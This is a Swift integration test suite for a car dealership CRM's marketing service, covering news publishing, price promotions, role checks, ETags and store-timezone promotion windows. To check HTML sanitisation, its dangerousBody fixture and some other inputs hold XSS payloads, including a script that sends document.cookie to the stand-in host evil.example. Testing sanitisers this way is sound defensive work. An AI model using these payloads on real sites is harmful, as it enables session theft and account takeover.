import Foundation
import NIOHTTP1
@testable import ServiceKit
import TestSupport
import XCTest

/// Marketing's first slice (issue 15: M1 news, M2 price promotions; seed §9.1, §9.2) on the real
/// PostgreSQL and RabbitMQ, every service a process, every call through the gateway as the
/// demo users (`marketing.1` of HX000001, `marketing.2` of HX000002, `consultant.1`) or, for
/// the public pages, without a token:
///
/// - the marketing manager's permissions: a consultant is refused with 403;
/// - a news body with `<script>`, `onerror=` and `javascript:` links is stored without them;
/// - a cover whose bytes are not the image they claim is a 422; a real one is served back;
/// - publish / withdraw / delete a draft, and the public list and article with ETag and 304;
/// - the promotion price is derived, and a client's contradicting one is a 422 naming it;
/// - "current" promotions follow the store's calendar (Asia/Shanghai), not UTC's, on a fixed clock.
final class MarketingTests: XCTestCase {
    /// A 1×1 PNG.
    private static let png = Data(base64Encoded: "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")!

    /// The suite with Marketing, a public rate that the test's few dozen reads stay under, and
    /// Marketing's directory knowing the demo stores (the public pages find a store by its code).
    private func start(marketingEnvironment: [String: String] = [:]) async throws -> Suite {
        let suite = try await Suite.start(
            marketingEnvironment: marketingEnvironment,
            gatewayEnvironment: ["CRM_PUBLIC_RATE_PER_SECOND": "100", "CRM_PUBLIC_RATE_BURST": "200"])
        let known = try await eventually(timeout: .seconds(30)) {
            try await suite.database.scalar("SELECT count(*)::int8 FROM marketing.directory_store WHERE code IN ('HX000001', 'HX000002')") == 2
        }
        guard known else { throw TestFailure("Marketing never learned the demo stores\n\(suite.logs)") }
        return suite
    }

    private static let dangerousBody = """
        <h2>新款C级到店</h2><p onclick="steal()">欢迎<strong>试驾</strong>
        <a href="javascript:alert(document.cookie)">点此预约</a>
        <a href=" JaVa&#x09;ScRiPt&#58;alert(1)">再点</a>
        <a href="https://hx.example.cn/c">详情</a></p>
        <img src="x" onerror="alert('xss')"><img src="https://img.example.cn/c.jpg" onerror="alert(2)" alt="C级">
        <script>document.location='https://evil.example/?c='+document.cookie</script>
        <iframe src="javascript:alert(3)"></iframe>
        """

    func testTheMarketingManagerPublishesNewsThatTheSiteReadsWithoutATokenAndScriptsNeverSurvive() async throws {
        let suite = try await start()
        do {
            let marketing = try await suite.login("marketing.1")
            let consultant = try await suite.login("consultant.1")

            // The role: a consultant may neither read nor write the store's news.
            let article = ["category": "new_model", "title": "全新C级上市", "summary": "到店有礼", "body": Self.dangerousBody, "displayOrder": 1] as [String: Any]
            let refused = try await suite.request(.POST, "/api/v1/marketing/news", token: consultant, json: article)
            XCTAssertEqual(refused.status, 403, refused.text)
            XCTAssertTrue(refused.text.contains("marketing.content.manage"), refused.text)
            let unread = try await suite.request(.GET, "/api/v1/marketing/news", token: consultant)
            XCTAssertEqual(unread.status, 403, unread.text)

            // Every bad field at once; a code lists the store's codes with their labels.
            var bad = article
            bad["category"] = "gossip"
            bad["title"] = " "
            bad["body"] = "<script>alert(1)</script>"
            let invalid = try await suite.request(.POST, "/api/v1/marketing/news", token: marketing, json: bad)
            XCTAssertEqual(invalid.status, 422, invalid.text)
            XCTAssertTrue(invalid.isProblem)
            XCTAssertEqual(Set(invalid.problemFields), ["category", "title", "body"], invalid.text)
            XCTAssertTrue(invalid.text.contains("new_model (新车上市)"), invalid.text)

            // The acceptance item: the body is stored without the script, the handler and the script URLs.
            let created = try await suite.request(.POST, "/api/v1/marketing/news", token: marketing, json: article)
            XCTAssertEqual(created.status, 201, created.text)
            let id = try XCTUnwrap(created.json["id"] as? String, created.text)
            XCTAssertEqual(created.json["state"] as? String, "draft")
            let body = try XCTUnwrap(created.json["body"] as? String)
            for dangerous in ["<script", "onerror", "onclick", "javascript", "<iframe", "document.cookie"] {
                XCTAssertFalse(body.lowercased().contains(dangerous), "\(dangerous) survived: \(body)")
            }
            XCTAssertTrue(body.contains("<a href=\"https://hx.example.cn/c\">详情</a>"), body)
            XCTAssertTrue(body.contains("<img src=\"https://img.example.cn/c.jpg\" alt=\"C级\">"), body)
            XCTAssertTrue(body.contains("<a>点此预约</a>"), body)
            let stored = try await suite.database.scalar("""
                SELECT count(*)::int8 FROM marketing.news_article
                WHERE id = '\(id)' AND body !~* '(script|onerror|onclick|javascript|iframe)' AND body LIKE '%<strong>试驾</strong>%'
                """)
            XCTAssertEqual(stored, 1, "the row holds the sanitised body")

            // A cover whose bytes are no image is refused; a PNG is kept and served back.
            let fake = try await suite.request(
                .PUT, "/api/v1/marketing/news/\(id)/cover", token: marketing, bytes: Data("<svg onload=alert(1)>".utf8), contentType: "image/png")
            XCTAssertEqual(fake.status, 422, fake.text)
            XCTAssertEqual(fake.problemFields, ["body"], fake.text)
            let gif = try await suite.request(
                .PUT, "/api/v1/marketing/news/\(id)/cover", token: marketing, bytes: Data("GIF89a".utf8), contentType: "image/gif")
            XCTAssertEqual(gif.status, 415, gif.text)
            let cover = try await suite.request(.PUT, "/api/v1/marketing/news/\(id)/cover", token: marketing, bytes: Self.png, contentType: "image/png")
            XCTAssertEqual(cover.status, 200, cover.text)
            XCTAssertEqual(cover.json["hasCover"] as? Bool, true, cover.text)

            // Not shown before it is published.
            let hidden = try await suite.request(.GET, "/api/v1/public/marketing/news/\(id)")
            XCTAssertEqual(hidden.status, 404, hidden.text)
            let published = try await suite.request(.POST, "/api/v1/marketing/news/\(id)/publish", token: marketing, json: [:])
            XCTAssertEqual(published.status, 200, published.text)
            XCTAssertEqual(published.json["state"] as? String, "published")
            XCTAssertNotNil(published.json["publishedAt"] as? String)
            let twice = try await suite.request(.POST, "/api/v1/marketing/news/\(id)/publish", token: marketing, json: [:])
            XCTAssertEqual(twice.status, 409, twice.text)
            XCTAssertTrue(twice.text.contains("已发布 (published)"), twice.text)

            // The public list and article, without a token, with ETags.
            let list = try await suite.request(.GET, "/api/v1/public/marketing/news?store=HX000001&category=new_model&pageSize=50")
            XCTAssertEqual(list.status, 200, list.text)
            let listed = try XCTUnwrap(list.items.first { $0["id"] as? String == id }, list.text)
            XCTAssertEqual(listed["categoryLabel"] as? String, "新车上市")
            XCTAssertEqual(listed["coverPath"] as? String, "/api/v1/public/marketing/news/\(id)/cover")
            XCTAssertNil(listed["body"], "the list carries no bodies")
            let listTag = try XCTUnwrap(list.headers.first(name: "etag"), "\(list.headers)")
            let unchanged = try await suite.request(.GET, "/api/v1/public/marketing/news?store=HX000001&category=new_model&pageSize=50", headers: ["If-None-Match": listTag])
            XCTAssertEqual(unchanged.status, 304)
            XCTAssertEqual(unchanged.headers.first(name: "etag"), listTag)
            XCTAssertTrue(unchanged.body.isEmpty)
            let otherCategory = try await suite.request(.GET, "/api/v1/public/marketing/news?store=HX000001&category=car_care&pageSize=50")
            XCTAssertFalse(otherCategory.items.contains { $0["id"] as? String == id })
            let badCategory = try await suite.request(.GET, "/api/v1/public/marketing/news?store=HX000001&category=gossip")
            XCTAssertEqual(badCategory.status, 422, badCategory.text)
            XCTAssertEqual(badCategory.problemFields, ["category"])
            let noStore = try await suite.request(.GET, "/api/v1/public/marketing/news")
            XCTAssertEqual(noStore.status, 422, noStore.text)
            XCTAssertEqual(noStore.problemFields, ["store"])
            let unknownStore = try await suite.request(.GET, "/api/v1/public/marketing/news?store=XX999999")
            XCTAssertEqual(unknownStore.status, 404, unknownStore.text)
            let otherStore = try await suite.request(.GET, "/api/v1/public/marketing/news?store=HX000002&pageSize=50")
            XCTAssertFalse(otherStore.items.contains { $0["id"] as? String == id })

            let page = try await suite.request(.GET, "/api/v1/public/marketing/news/\(id)")
            XCTAssertEqual(page.status, 200, page.text)
            XCTAssertEqual(page.json["body"] as? String, body)
            let tag = try XCTUnwrap(page.headers.first(name: "etag"))
            let notModified = try await suite.request(.GET, "/api/v1/public/marketing/news/\(id)", headers: ["If-None-Match": "\"other\", W/\(tag)"])
            XCTAssertEqual(notModified.status, 304)
            let image = try await suite.request(.GET, "/api/v1/public/marketing/news/\(id)/cover")
            XCTAssertEqual(image.status, 200)
            XCTAssertEqual(image.headers.first(name: "content-type"), "image/png")
            XCTAssertEqual(image.body, Self.png)

            // An edit changes what the site shows, and so the tag.
            var edited = article
            edited["title"] = "全新C级上市（更新）"
            let replaced = try await suite.request(.PUT, "/api/v1/marketing/news/\(id)", token: marketing, json: edited)
            XCTAssertEqual(replaced.status, 200, replaced.text)
            let changed = try await suite.request(.GET, "/api/v1/public/marketing/news/\(id)", headers: ["If-None-Match": tag])
            XCTAssertEqual(changed.status, 200, changed.text)
            XCTAssertEqual(changed.json["title"] as? String, "全新C级上市（更新）")
            XCTAssertNotEqual(changed.headers.first(name: "etag"), tag)

            // Another store's manager does not see it; withdrawn, it leaves the site.
            let marketing2 = try await suite.login("marketing.2")
            let foreign = try await suite.request(.GET, "/api/v1/marketing/news/\(id)", token: marketing2)
            XCTAssertEqual(foreign.status, 404, foreign.text)
            let withdrawn = try await suite.request(.POST, "/api/v1/marketing/news/\(id)/withdraw", token: marketing, json: [:])
            XCTAssertEqual(withdrawn.status, 200, withdrawn.text)
            XCTAssertEqual(withdrawn.json["state"] as? String, "withdrawn")
            let gone = try await suite.request(.GET, "/api/v1/public/marketing/news/\(id)")
            XCTAssertEqual(gone.status, 404, gone.text)
            let goneCover = try await suite.request(.GET, "/api/v1/public/marketing/news/\(id)/cover")
            XCTAssertEqual(goneCover.status, 404)
            let after = try await suite.request(.GET, "/api/v1/public/marketing/news?store=HX000001&pageSize=50")
            XCTAssertFalse(after.items.contains { $0["id"] as? String == id })

            // Staff still list it, by state; only a draft may be deleted.
            let staffList = try await suite.request(.GET, "/api/v1/marketing/news?state=withdrawn&q=C", token: marketing)
            XCTAssertTrue(staffList.items.contains { $0["id"] as? String == id }, staffList.text)
            let badState = try await suite.request(.GET, "/api/v1/marketing/news?state=hidden", token: marketing)
            XCTAssertEqual(badState.status, 422)
            XCTAssertTrue(badState.text.contains("withdrawn (已撤回)"), badState.text)
            let notDeleted = try await suite.request(.DELETE, "/api/v1/marketing/news/\(id)", token: marketing)
            XCTAssertEqual(notDeleted.status, 409, notDeleted.text)
            let draft = try await suite.request(.POST, "/api/v1/marketing/news", token: marketing, json: ["category": "store_news", "title": "草稿", "body": "<p>待写</p>"])
            let draftID = try XCTUnwrap(draft.json["id"] as? String, draft.text)
            let deleted = try await suite.request(.DELETE, "/api/v1/marketing/news/\(draftID)", token: marketing)
            XCTAssertEqual(deleted.status, 200, deleted.text)
            let missing = try await suite.request(.GET, "/api/v1/marketing/news/\(draftID)", token: marketing)
            XCTAssertEqual(missing.status, 404)
        } catch {
            XCTFail("\(error)\n\(suite.logs)")
        }
        await suite.stop()
    }

    /// On a fixed clock at 2026-12-01 16:30 UTC — already 2 December 00:30 in Shanghai, the
    /// demo stores' zone.
    func testThePromotionPriceIsDerivedAndTheSiteShowsTheStoresCurrentPromotions() async throws {
        let clock = try TestClockFile("2026-12-01T16:30:00Z")
        defer { clock.remove() }
        let suite = try await start(marketingEnvironment: clock.environment)
        do {
            let marketing = try await suite.login("marketing.1")
            let consultant = try await suite.login("consultant.1")
            func promotion(_ title: String, from: String, until: String) -> [String: Any] {
                [
                    "title": title, "brand": "奔驰", "series": "C级", "model": "C 260 L 运动版", "listPrice": 339_900, "discount": 30_000.5,
                    "conditions": "贷款购车", "validFrom": from, "validUntil": until, "content": "<p>限时<img src=x onerror=alert(1)></p>",
                ]
            }

            let refused = try await suite.request(.POST, "/api/v1/marketing/promotions", token: consultant, json: promotion("x", from: "2026-12-02", until: "2026-12-10"))
            XCTAssertEqual(refused.status, 403, refused.text)

            // Derived, not trusted: the same price is accepted, another one named.
            var agreeing = promotion("双十二钜惠", from: "2026-12-02", until: "2026-12-10")
            agreeing["promotionPrice"] = 309_899.5
            let created = try await suite.request(.POST, "/api/v1/marketing/promotions", token: marketing, json: agreeing)
            XCTAssertEqual(created.status, 201, created.text)
            XCTAssertEqual(created.json["promotionPrice"] as? Double, 309_899.5, created.text)
            XCTAssertEqual(created.json["content"] as? String, "<p>限时</p>")
            let current = try XCTUnwrap(created.json["id"] as? String)
            var contradicting = promotion("骗价", from: "2026-12-02", until: "2026-12-10")
            contradicting["promotionPrice"] = 199_900
            let contradicted = try await suite.request(.POST, "/api/v1/marketing/promotions", token: marketing, json: contradicting)
            XCTAssertEqual(contradicted.status, 422, contradicted.text)
            XCTAssertEqual(contradicted.problemFields, ["promotionPrice"])
            XCTAssertTrue(contradicted.text.contains("309,899.50"), contradicted.text)
            var impossible = promotion("", from: "2026-12-10", until: "2026-12-02")
            impossible["discount"] = 400_000
            let invalid = try await suite.request(.POST, "/api/v1/marketing/promotions", token: marketing, json: impossible)
            XCTAssertEqual(invalid.status, 422, invalid.text)
            XCTAssertEqual(Set(invalid.problemFields), ["title", "discount", "validUntil"], invalid.text)
            let past = try await suite.request(.POST, "/api/v1/marketing/promotions", token: marketing, json: promotion("过期", from: "2026-11-20", until: "2026-11-30"))
            XCTAssertEqual(past.status, 422, past.text)
            XCTAssertEqual(past.problemFields, ["validUntil"])
            let notStored = try await suite.database.scalar("SELECT count(*)::int8 FROM marketing.price_promotion WHERE title IN ('骗价', '过期')")
            XCTAssertEqual(notStored, 0)

            // Three published: today in Shanghai is 2 December, though UTC's is still the 1st — one runs
            // from today, one ends today, one starts later in the month.
            let endsToday = try await suite.request(.POST, "/api/v1/marketing/promotions", token: marketing, json: promotion("今日截止", from: "2026-11-20", until: "2026-12-02"))
            XCTAssertEqual(endsToday.status, 201, endsToday.text)
            let lastDayToday = try XCTUnwrap(endsToday.json["id"] as? String)
            let future = try await suite.request(.POST, "/api/v1/marketing/promotions", token: marketing, json: promotion("元旦预告", from: "2026-12-20", until: "2027-01-03"))
            let futureID = try XCTUnwrap(future.json["id"] as? String, future.text)
            for id in [current, lastDayToday, futureID] {
                let published = try await suite.request(.POST, "/api/v1/marketing/promotions/\(id)/publish", token: marketing, json: [:])
                XCTAssertEqual(published.status, 200, published.text)
            }
            let consultantWithdraw = try await suite.request(.POST, "/api/v1/marketing/promotions/\(futureID)/withdraw", token: consultant, json: [:])
            XCTAssertEqual(consultantWithdraw.status, 403)

            let site = try await suite.request(.GET, "/api/v1/public/marketing/promotions?store=HX000001&pageSize=100")
            XCTAssertEqual(site.status, 200, site.text)
            let shown = Set(site.items.compactMap { $0["id"] as? String })
            XCTAssertTrue(shown.contains(current), site.text)
            XCTAssertTrue(shown.contains(lastDayToday), "its last day is today on the store's calendar")
            XCTAssertFalse(shown.contains(futureID))
            let item = try XCTUnwrap(site.items.first { $0["id"] as? String == current })
            XCTAssertEqual(item["listPrice"] as? Double, 339_900)
            XCTAssertEqual(item["discount"] as? Double, 30_000.5)
            XCTAssertEqual(item["promotionPrice"] as? Double, 309_899.5)
            let tag = try XCTUnwrap(site.headers.first(name: "etag"))
            let same = try await suite.request(.GET, "/api/v1/public/marketing/promotions?store=HX000001&pageSize=100", headers: ["If-None-Match": tag])
            XCTAssertEqual(same.status, 304)
            let staff = try await suite.request(.GET, "/api/v1/marketing/promotions?current=true", token: marketing)
            XCTAssertEqual(Set(staff.items.compactMap { $0["id"] as? String }).intersection([current, lastDayToday, futureID]), [current, lastDayToday])

            // The next morning in Shanghai (00:30 UTC on the 3rd: 08:30 there) the last-day one is gone.
            try clock.set(hoursAfterStart: 32)
            let nextDay = try await suite.request(.GET, "/api/v1/public/marketing/promotions?store=HX000001&pageSize=100")
            let shownNextDay = Set(nextDay.items.compactMap { $0["id"] as? String })
            XCTAssertTrue(shownNextDay.contains(current))
            XCTAssertFalse(shownNextDay.contains(lastDayToday), nextDay.text)

            // An edit recomputes the price; withdrawn, it leaves the site.
            var cheaper = promotion("双十二钜惠", from: "2026-12-02", until: "2026-12-10")
            cheaper["discount"] = 40_000
            let edited = try await suite.request(.PUT, "/api/v1/marketing/promotions/\(current)", token: marketing, json: cheaper)
            XCTAssertEqual(edited.status, 200, edited.text)
            XCTAssertEqual(edited.json["promotionPrice"] as? Double, 299_900)
            XCTAssertEqual(edited.json["current"] as? Bool, true)
            let withdrawn = try await suite.request(.POST, "/api/v1/marketing/promotions/\(current)/withdraw", token: marketing, json: [:])
            XCTAssertEqual(withdrawn.status, 200, withdrawn.text)
            XCTAssertEqual(withdrawn.json["current"] as? Bool, false)
            let again = try await suite.request(.POST, "/api/v1/marketing/promotions/\(current)/withdraw", token: marketing, json: [:])
            XCTAssertEqual(again.status, 409, again.text)
            let afterWithdrawal = try await suite.request(.GET, "/api/v1/public/marketing/promotions?store=HX000001&pageSize=100")
            XCTAssertFalse(afterWithdrawal.items.contains { $0["id"] as? String == current })
            let stored = try await suite.database.scalar("SELECT (promotion_price * 100)::int8 FROM marketing.price_promotion WHERE id = '\(current)'")
            XCTAssertEqual(stored, 29_990_000, "the database derives it too")
            // Only a draft is deleted: a withdrawn promotion was on the site and stays on record.
            let keptOnRecord = try await suite.request(.DELETE, "/api/v1/marketing/promotions/\(current)", token: marketing)
            XCTAssertEqual(keptOnRecord.status, 409, keptOnRecord.text)
            XCTAssertTrue(keptOnRecord.text.contains("已撤回"), keptOnRecord.text)
            let draft = try await suite.request(.POST, "/api/v1/marketing/promotions", token: marketing, json: promotion("草稿", from: "2026-12-20", until: "2026-12-31"))
            let draftID = try XCTUnwrap(draft.json["id"] as? String, draft.text)
            let deleted = try await suite.request(.DELETE, "/api/v1/marketing/promotions/\(draftID)", token: marketing)
            XCTAssertEqual(deleted.status, 200, deleted.text)
            let gone = try await suite.request(.GET, "/api/v1/marketing/promotions/\(draftID)", token: marketing)
            XCTAssertEqual(gone.status, 404)
        } catch {
            XCTFail("\(error)\n\(suite.logs)")
        }
        await suite.stop()
    }
}
